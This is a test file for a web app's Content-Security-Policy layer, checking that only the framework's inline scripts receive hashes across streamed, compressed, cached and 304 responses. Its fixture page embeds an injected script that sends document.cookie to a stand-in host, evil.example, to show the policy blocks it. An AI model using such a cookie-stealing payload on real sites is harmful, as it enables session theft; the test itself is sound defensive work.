/**
 * The production response layer (lib/http/page-script-policy.ts) in front of a real HTTP server
 * that answers the way Next does: pages streamed or sent whole, compressed or not, 304s, JSON.
 */
import http from 'node:http';
import { gunzipSync } from 'node:zlib';
import { scriptHash } from '@/lib/domain/inline-scripts';
import { pagePolicies } from '@/lib/http/page-script-policy';
import { installResponseLayer } from '@/lib/http/response-layer';
import { loadReactRuntime } from '@/lib/http/react-runtime';
import { CONTENT_SECURITY_POLICY, contentSecurityPolicy } from '@/lib/http/security-headers';
import { rawGet } from '../support/raw-get';

const FLIGHT = 'self.__next_f.push([1,"0:[\\"$\\",\\"p\\",null,{\\"children\\":\\"Tartan apron\\"}]\\n"])';
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
const STATIC_POLICY = contentSecurityPolicy({ dev: false, stripe: false });
const STORED_POLICY = contentSecurityPolicy({ dev: false, stripe: false, scriptHashes: ["'sha256-stored'"] });
const PAGE_HEAD = `<!DOCTYPE html><html lang="en"><head><script>${BOOTSTRAP}</script></head><body>`;
const PAGE_TAIL = `<p>${'Tartan apron, £24.00. '.repeat(200)}</p><script>${FLIGHT}</script><script>${INJECTED}</script></body></html>`;

function answer(request: http.IncomingMessage, response: http.ServerResponse): void {
  response.setHeader(CONTENT_SECURITY_POLICY, STATIC_POLICY);
  switch (request.url) {
    case '/streamed':
      response.setHeader('Content-Type', 'text/html; charset=utf-8');
      response.flushHeaders();
      response.write(PAGE_HEAD);
      setTimeout(() => response.end(PAGE_TAIL), 20);
      return;
    case '/whole':
      response.setHeader('Content-Type', 'text/html; charset=utf-8');
      response.setHeader('Content-Length', Buffer.byteLength(PAGE_HEAD + PAGE_TAIL));
      response.end(PAGE_HEAD + PAGE_TAIL);
      return;
    case '/written-head':
      response.writeHead(404, { 'Content-Type': 'text/html' });
      response.end(`<html><body><script>${BOOTSTRAP}</script>Not found</body></html>`);
      return;
    case '/cached':
      // Next adds a cached page's stored headers after the static ones, then streams its bytes.
      response.setHeader('Content-Type', 'text/html; charset=utf-8');
      response.appendHeader(CONTENT_SECURITY_POLICY, STORED_POLICY);
      response.flushHeaders();
      response.write(PAGE_HEAD);
      setTimeout(() => response.end(PAGE_TAIL), 20);
      return;
    case '/not-modified':
      response.statusCode = 304;
      response.end();
      return;
    default:
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify({ products: [] }));
  }
}

let server: http.Server;
let uninstall: () => void;

const get = (path: string, headers: Record<string, string> = {}) => rawGet(server, path, headers);

const scriptSources = (policy: string | string[] | undefined) => String(policy).split('; ').find((directive) => directive.startsWith('script-src'));

beforeAll(async () => {
  uninstall = installResponseLayer({ policyFor: pagePolicies({ stripe: false, reactRuntime: loadReactRuntime() }) });
  server = http.createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
});

afterAll(async () => {
  uninstall();
  await new Promise((resolve) => server.close(resolve));
});

describe('the page script policy', () => {
  it.each(['/streamed', '/whole'])('lets exactly the framework’s inline scripts of %s run, not an injected one', async (path) => {
    const reply = await get(path);
    expect(reply.status).toBe(200);
    expect(reply.body.toString('utf8')).toBe(PAGE_HEAD + PAGE_TAIL);
    expect(Number(reply.headers['content-length'])).toBe(Buffer.byteLength(PAGE_HEAD + PAGE_TAIL));
    expect(scriptSources(reply.headers['content-security-policy'])).toBe(`script-src 'self' ${scriptHash(BOOTSTRAP)} ${scriptHash(FLIGHT)}`);
    expect(reply.headers['content-security-policy']).not.toContain(scriptHash(INJECTED));
    expect(scriptSources(reply.headers['content-security-policy'])).not.toContain('unsafe-inline');
  });

  it('hashes the page before compressing it', async () => {
    const reply = await get('/streamed', { 'accept-encoding': 'gzip' });
    expect(reply.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(reply.body).toString('utf8')).toBe(PAGE_HEAD + PAGE_TAIL);
    expect(scriptSources(reply.headers['content-security-policy'])).toBe(`script-src 'self' ${scriptHash(BOOTSTRAP)} ${scriptHash(FLIGHT)}`);
  });

  it('sends a cached page with the policy stored with it, and only that one', async () => {
    const reply = await get('/cached');
    expect(reply.body.toString('utf8')).toBe(PAGE_HEAD + PAGE_TAIL);
    expect(reply.headers['content-security-policy']).toBe(STORED_POLICY);
  });

  it('reads headers given to writeHead', async () => {
    const reply = await get('/written-head');
    expect(reply.status).toBe(404);
    expect(scriptSources(reply.headers['content-security-policy'])).toBe(`script-src 'self' ${scriptHash(BOOTSTRAP)}`);
  });

  it('sends no policy with a 304, so the browser keeps the one stored with its copy', async () => {
    const reply = await get('/not-modified');
    expect(reply.status).toBe(304);
    expect(reply.headers['content-security-policy']).toBeUndefined();
  });

  it('passes anything that is not a page through with the static policy, which allows no inline script', async () => {
    const reply = await get('/api/products');
    expect(JSON.parse(reply.body.toString('utf8'))).toEqual({ products: [] });
    expect(reply.headers['content-security-policy']).toBe(STATIC_POLICY);
    expect(scriptSources(reply.headers['content-security-policy'])).toBe("script-src 'self'");
  });
});

describe("React's streaming runtime", () => {
  it('is found in the react-dom this install renders with', () => {
    const runtime = loadReactRuntime();
    expect(runtime.some((definition) => definition.includes('$RC=function'))).toBe(true);
    expect(runtime.some((definition) => definition.startsWith('$RS='))).toBe(true);
  });
});
